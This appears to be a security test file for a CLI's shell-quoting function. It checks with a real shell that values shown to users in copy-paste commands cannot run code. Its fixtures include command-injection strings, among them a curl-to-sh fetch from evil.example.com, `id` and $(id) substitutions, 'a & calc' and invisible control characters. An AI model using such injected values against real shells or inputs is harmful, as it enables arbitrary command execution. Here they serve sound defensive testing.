import { spawnSync } from "node:child_process";
import { importCommands } from "../../cli/import/project.js";
import { shellWord } from "../../provider/core/shell.js";
import { OrganizationVanishedError } from "../../provider/snapshot/index.js";
import { hostileTexts, steering } from "../hostile/texts.js";

/* security 17: users copy shell lines from messages; the oracle is a real shell. */

/** The arguments that a shell passes to a program for these words, and other commands that it has run. */
function argumentsOf(words: string): { args: string[]; said: string } {
  const program = 'for word; do printf "%s\\0" "$word"; done';
  const { stdout, stderr } = spawnSync("sh", ["-c", `set -- ${words}\n${program}`], {
    encoding: "utf8",
    env: { PATH: process.env["PATH"], HOME: "/home/somebody", IFS: " \t\n" },
  });
  return { args: stdout.split("\0").slice(0, -1), said: stderr };
}

const words: Record<string, string> = {
  "a uid": "0000000a-0000-4000-8000-000000000000",
  "a slug": "acme-robotics",
  "an address": "ada@example.com",
  "a path": "out/import.json",
  nothing: "",
  "a command in a uid": "x;curl$IFS-s$IFS'http://evil.example.com'|sh;",
  "another command": "x;touch\tpwned&&echo||id>out<in",
  quotes: `it's "quoted" and 'quoted'`,
  "quotes alone": "'''",
  backticks: "`id`",
  substitution: "$(id) ${HOME} $HOME $((1+1)) $'a'",
  "a substitution beside a line end": "$(id)\n`id`\u001b",
  backslashes: "a\\b\\\\c\\n\\",
  patterns: "* ? [a-z] {a,b} ~ ~root !! !x ^a^b",
  assignment: "A=b",
  "an option": "--protect=false",
  "an option that carries something out": "--name=$(id)",
  "an equals sign first": "=ls",
  comment: "# x",
  spaces: "  a  b\tc ",
  "a line end": "a\nb",
  "line ends last": "a\n\n",
  "a line end alone": "\n",
  "a carriage return": "a\rb",
  "percents and control characters": "100%s %n\u0007%%",
  "a hyphen and control characters": "-n\u0007",
  "quotes and control characters": "'a'\u001b\"b\"\u009b",
  "a URN": "urn:pulumi:prod::app::pulumi-nodejs:dynamic/avala:Team::x'y$(id)",
  "a URN of a component": "urn:pulumi:prod::app::avala:index:People$pulumi-nodejs:dynamic/avala:Team::a b",
  "other scripts": "Ünïcode Москва 日本 🙂",
  "what cannot be seen": "a\u200bb\u202ec\u2066d\ufeff\u2028e",
};
const ofServices = Object.fromEntries(
  Object.entries(hostileTexts)
    .filter(([name]) => name !== "a megabyte")
    // No argument holds NUL or half a character.
    .map(([name, text]) => [name, text.replaceAll("\0", "").replace(/\p{Cs}/gu, "\ufffd")]),
);
const all = Object.entries({ ...words, ...ofServices });

/**
 * On Windows, the shell may be PowerShell, cmd or Git Bash. Oracle of the last: a real shell. For the others: between
 * single quotes, PowerShell ends the text at a quote of any kind only, and cmd runs what follows an operator.
 */
it.each(all)("on Windows, is passed unchanged or not shown at all: %s", (_, text) => {
  const shown = shellWord(text, "win32");
  const inPowerShellAndCmd = /^(?:[^'\u2018-\u201b"&|<>^%!]+|'[^'\u2018-\u201b"&|<>^%!]*'|<value>)$/u;
  expect(shown).toMatch(inPowerShellAndCmd);
  expect(shown).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
  const args = argumentsOf(`before ${shown} after`).args;
  expect(args).toEqual(shown === "<value>" ? [] : ["before", text, "after"]);
});

it.each([
  ["C:\\Users\\Ada L\\infra", "'C:\\Users\\Ada L\\infra'"],
  ["urn:pulumi:prod::app::avala:index:People$x", "'urn:pulumi:prod::app::avala:index:People$x'"],
  ["acme-robotics", "acme-robotics"],
  ["", "''"],
  ["it's", "<value>"],
  ["a\u2019; calc \u2019", "<value>"],
  ["a & calc", "<value>"],
  ["100%", "<value>"],
  ["a\nb", "<value>"],
])("on Windows, %j is shown as %s", (text, shown) => {
  expect(shellWord(text, "win32")).toBe(shown);
});

it.each(all)("is passed unchanged, and nothing in it is run: %s", (_, text) => {
  expect(argumentsOf(`before ${shellWord(text)} after`)).toEqual({ args: ["before", text, "after"], said: "" });
  expect(argumentsOf(`${shellWord(text)}`)).toEqual({ args: [text], said: "" });
});

it.each(all)("is one line without terminal controls: %s", (_, text) => {
  // A shell has no other spelling for trailing line ends.
  const shown = shellWord(text).replace(/'\n+'$/, "");
  expect(shown).not.toMatch(steering);
});

it.each(["acme-robotics", "ada@example.com", "out/import.json", "urn:pulumi:prod::app"])(
  "is not quoted unnecessarily: %s",
  (text) => {
    expect(shellWord(text)).toBe(text);
  },
);

it("applies to the variable in the message of a vanished organization", () => {
  const uid = words["a command in a uid"]!;
  const { message } = new OrganizationVanishedError(uid, true);
  const [, assignment] = /run again with (AVALA_ASSUME_DELETED=.*): its resources/.exec(message)!;
  const { stdout, stderr } = spawnSync("sh", ["-c", `${assignment} printenv AVALA_ASSUME_DELETED`], {
    encoding: "utf8",
  });
  expect([stdout, stderr]).toEqual([`${uid}\n`, ""]);
});

it.each(all.filter(([, text]) => text !== ""))("applies to the file of pulumi import: %s", (_, text) => {
  const [line] = importCommands(text);
  const { args } = argumentsOf(line!.slice("PULUMI_SKIP_CHECKPOINTS=true ".length));
  expect(args).toEqual([
    "pulumi",
    "import",
    "--file",
    text,
    "--yes",
    "--skip-preview",
    "--protect=false",
    "--generate-code=false",
  ]);
});

it.each(["--protect=false", "import.json", "ada@example.com", "--yes"])("does not quote %s", (text) => {
  expect(shellWord(text)).toBe(text);
});
